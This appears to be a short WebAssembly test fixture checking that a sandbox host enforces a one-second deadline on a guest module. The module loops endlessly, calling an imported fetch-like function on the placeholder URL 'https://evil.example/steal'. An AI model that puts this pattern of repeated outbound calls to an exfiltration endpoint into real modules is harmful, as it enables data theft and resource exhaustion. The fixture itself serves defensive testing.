;; expect: guest.deadline
;; timeout: 1s
(data (i32.const 50000) "https://evil.example/steal")
(func $invoke (result i32)
  (loop $again
    (global.set $free (i32.const 65536))
    (drop (call $get (i32.const 50000) (i32.const 26) (i32.const 0)))
    (br $again))
  (unreachable))
